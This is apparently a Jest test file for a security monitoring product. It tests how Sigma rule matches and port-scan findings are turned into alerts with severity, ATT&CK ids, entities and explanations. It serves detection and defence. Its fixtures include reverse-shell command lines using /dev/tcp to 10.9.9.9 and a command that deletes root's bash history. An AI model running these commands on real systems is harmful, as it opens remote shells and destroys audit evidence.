// Alerts shaped from Sigma matches and detector findings: OCSF severity, ATT&CK ids, entities,
// evidence, explanations, and ids that depend only on rule, entity and time window.
import { join } from 'node:path';
import { DetectorSet, flowEvent, loadRulePack } from '@omega/detect';
import {
  AlertStatus,
  DetectorKind,
  EntityKind,
  Event,
  EventClass,
  NetworkActivityId,
  ProcessAction,
  ProcessActivityId,
  Severity,
} from '@omega/proto';
import {
  alertFromFinding,
  alertFromSigmaMatch,
  deterministicAlertId,
  severityName,
} from './alert-builder';
import { RuleCatalog } from './rule-catalog';
import { processLaunch } from './testing/spec-events';

const WINDOW_MS = 60_000;
const batch = {
  senderId: 'spiffe://omega.local/sentinel/node-1',
  sessionId: 's1',
  sequence: 7n,
  streamSequence: 42n,
};

describe('alertFromSigmaMatch', () => {
  let catalog: RuleCatalog;
  beforeAll(async () => {
    catalog = await RuleCatalog.fromDirectory(join(__dirname, '..', 'rules'), 0n);
  });

  const reverseShell = () =>
    processLaunch(
      { Image: '/bin/bash', CommandLine: 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1', User: 'root' },
      { id: 'evt-rs', timeNs: 1_700_000_000_123_000_000n },
    );

  function build(event = reverseShell()) {
    const rule = catalog.sigmaRules.find((r) =>
      r.compiled.rule.title.startsWith('Reverse Shell'),
    )!.compiled;
    return alertFromSigmaMatch(
      rule,
      rule.explain(event),
      { event, batch, eventIndex: 3 },
      WINDOW_MS,
    );
  }

  it('carries the rule, OCSF severity from the level, ATT&CK ids and the evidence event', () => {
    const { alert, entityKey } = build();
    expect(entityKey).toBe('pod:shop/cart-1');
    expect(alert).toMatchObject({
      ruleId: 'sigma:0b6a6f0e-3f7c-4d4e-9a51-1c2d3e4f5a02',
      severity: Severity.SEVERITY_HIGH,
      detectorKind: DetectorKind.DETECTOR_KIND_RULE,
      attackTechniqueIds: ['T1059.004', 'T1095'],
      status: AlertStatus.ALERT_STATUS_NEW,
      node: 'node-1',
      count: 1,
      evidence: [{ eventId: 'evt-rs', eventIndex: 3, batch }],
    });
    expect(alert.entities).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: EntityKind.ENTITY_KIND_POD, value: 'shop/cart-1' }),
        expect.objectContaining({ kind: EntityKind.ENTITY_KIND_USER, value: 'root' }),
        expect.objectContaining({ kind: EntityKind.ENTITY_KIND_NODE, value: 'node-1' }),
      ]),
    );
  });

  it('explains which selection and value matched, in prose and as structured reasons', () => {
    const { alert } = build();
    expect(alert.explanation).toContain('selection_dev_tcp');
    expect(alert.explanation).toContain('/dev/tcp/');
    expect(alert.explanation).toContain('T1059.004');
    expect(alert.reasons).toEqual([
      expect.objectContaining({
        feature: expect.stringContaining('cmd_line'),
        observedValue: 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1',
        expectedValue: expect.stringContaining('CommandLine|contains'),
        eventIds: ['evt-rs'],
      }),
      // The rule needs the shell's descriptors duplicated onto the socket too (`>&`): opening
      // /dev/tcp alone is how health checks test a port.
      expect.objectContaining({
        expectedValue: 'CommandLine|contains: ">&"',
        summary: expect.stringContaining("selection 'selection_fd_duplication'"),
        eventIds: ['evt-rs'],
      }),
    ]);
  });

  it('cites only the selections that made the condition true, not those that matched in vain', () => {
    // `bash -c "…/dev/tcp/…"` matches selection_netcat_exec (" -c ") too, but that selection counts
    // only together with a netcat image, which this is not: the verdict rests on selection_dev_tcp
    // and the descriptor duplication the rule requires with it.
    const { alert } = build(
      processLaunch(
        { Image: '/bin/bash', CommandLine: 'bash -c "bash -i >& /dev/tcp/10.9.9.9/4444 0>&1"' },
        { id: 'evt-c' },
      ),
    );
    expect(alert.explanation).toContain('selection_dev_tcp');
    expect(alert.explanation).not.toContain('selection_netcat_exec');
    expect(alert.reasons.map((r) => r.summary.split(':')[0])).toEqual([
      "selection 'selection_dev_tcp'",
      "selection 'selection_fd_duplication'",
    ]);
  });

  it('names the address a reverse shell connects to as its target', () => {
    const { alert } = build();
    expect(alert.entities).toContainEqual(
      expect.objectContaining({
        kind: EntityKind.ENTITY_KIND_IP_ADDRESS,
        value: '10.9.9.9',
        isActor: false,
      }),
    );
  });

  it("carries the rule's author as the sigma.author label, as SigmaHQ's licence asks", () => {
    const history = processLaunch(
      { Image: '/bin/rm', CommandLine: 'rm -f /root/.bash_history' },
      { id: 'evt-hist', timeNs: 1_700_000_000_123_000_000n },
    );
    const rule = catalog.sigmaRules.find((r) =>
      r.sourceName.endsWith('proc_creation_lnx_susp_history_delete.yml'),
    )!.compiled;
    const { alert } = alertFromSigmaMatch(
      rule,
      rule.explain(history),
      { event: history, batch, eventIndex: 0 },
      WINDOW_MS,
    );
    expect(alert.labels).toEqual({
      'sigma.level': 'high',
      'sigma.author': 'Florian Roth (Nextron Systems)',
    });
    expect(build().alert.labels['sigma.author']).toBe('Omega');
  });

  it('names the tracer, not the traced pid, as the process of a ptrace alert', () => {
    const rule = loadRulePack([
      {
        source: 'spec',
        text: [
          'title: ptrace attach',
          'id: 7d2c4e7a-5b1f-4c3e-8a9d-0e1f2a3b4c5d',
          'level: high',
          'logsource: { product: linux, category: ptrace }',
          'detection:',
          '  sel: { PtraceRequest: PTRACE_ATTACH }',
          '  condition: sel',
        ].join('\n'),
      },
    ]).rules[0]!;
    const event = Event.fromPartial({
      id: 'evt-pt',
      node: 'node-1',
      timeNs: 1_700_000_000_123_000_000n,
      classUid: EventClass.EVENT_CLASS_PROCESS_ACTIVITY,
      actor: { process: { pid: 4242, executablePath: '/usr/bin/gdb', cmdLine: 'gdb -p 77' } },
      payload: {
        $case: 'processActivity',
        value: {
          activityId: ProcessActivityId.PROCESS_ACTIVITY_ID_OPEN,
          action: ProcessAction.PROCESS_ACTION_PTRACE,
          ptraceRequest: 'PTRACE_ATTACH',
          process: { pid: 77 },
        },
      },
    });
    const { alert } = alertFromSigmaMatch(
      rule,
      rule.explain(event),
      { event, batch, eventIndex: 0 },
      WINDOW_MS,
    );
    expect(alert.entities.filter((e) => e.kind === EntityKind.ENTITY_KIND_PROCESS)).toEqual([
      expect.objectContaining({ value: 'node-1:4242', displayName: 'gdb -p 77' }),
    ]);
  });

  it('gives the same id to the same rule and entity in the same window, another in the next', () => {
    const first = build().alert.id;
    const sameWindow = build(
      processLaunch(
        { Image: '/bin/bash', CommandLine: 'bash -i >& /dev/tcp/10.9.9.9/5555 0>&1' },
        { timeNs: 1_700_000_000_124_000_000n },
      ),
    ).alert.id;
    const nextWindow = build(
      processLaunch(
        { Image: '/bin/bash', CommandLine: 'bash -i >& /dev/tcp/10.9.9.9/5555 0>&1' },
        { timeNs: 1_700_000_000_123_000_000n + 60_000_000_000n },
      ),
    ).alert.id;
    expect(first).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    expect(sameWindow).toBe(first);
    expect(nextWindow).not.toBe(first);
  });
});

describe('alertFromFinding', () => {
  it('turns a port-scan finding into a streaming alert with its sub-scores and evidence', () => {
    const detectors = new DetectorSet();
    const events = ['10.1.0.1', '10.1.0.2', '10.1.0.3', '10.1.0.4'].map((host, i) =>
      flowEvent({
        id: `scan-${i}`,
        timeNs: BigInt(i) * 1_000_000_000n,
        src: { ip: '10.0.0.5', workload: 'shop/cart-1@cart' },
        dst: { ip: host, port: 22 },
        activity: NetworkActivityId.NETWORK_ACTIVITY_ID_REFUSE,
      }),
    );
    const findings = events.flatMap((e) => detectors.observe(e));
    expect(findings).toHaveLength(1);
    const { alert, entityKey } = alertFromFinding(
      findings[0]!,
      { event: events[3]!, batch, eventIndex: 3 },
      WINDOW_MS,
    );
    expect(entityKey).toBe('pod:shop/cart-1');
    expect(alert).toMatchObject({
      ruleId: 'detector:port-scan',
      ruleName: 'port-scan (trw-host-scan)',
      detectorKind: DetectorKind.DETECTOR_KIND_STREAMING,
      severity: Severity.SEVERITY_MEDIUM,
      attackTechniqueIds: ['T1046'],
      node: 'node-1',
    });
    expect(alert.evidence.map((e) => e.eventId)).toEqual(['scan-0', 'scan-1', 'scan-2', 'scan-3']);
    expect(alert.evidence[3]).toEqual({ eventId: 'scan-3', eventIndex: 3, batch });
    expect(alert.reasons.length).toBeGreaterThan(0);
    expect(alert.explanation).toBe(findings[0]!.explanation);
    expect(alert.confidence).toBeGreaterThanOrEqual(0);
    expect(alert.confidence).toBeLessThanOrEqual(100);
    expect(alert.id).toBe(
      deterministicAlertId('detector:port-scan', 'trw-host-scan', 'pod:shop/cart-1', 0n),
    );
  });
});

describe('severityName', () => {
  it('names OCSF severities 0–6 for the alert subject', () => {
    expect([0, 1, 2, 3, 4, 5, 6, 99].map((s) => severityName(s))).toEqual([
      'unknown',
      'informational',
      'low',
      'medium',
      'high',
      'critical',
      'fatal',
      'unknown',
    ]);
  });
});
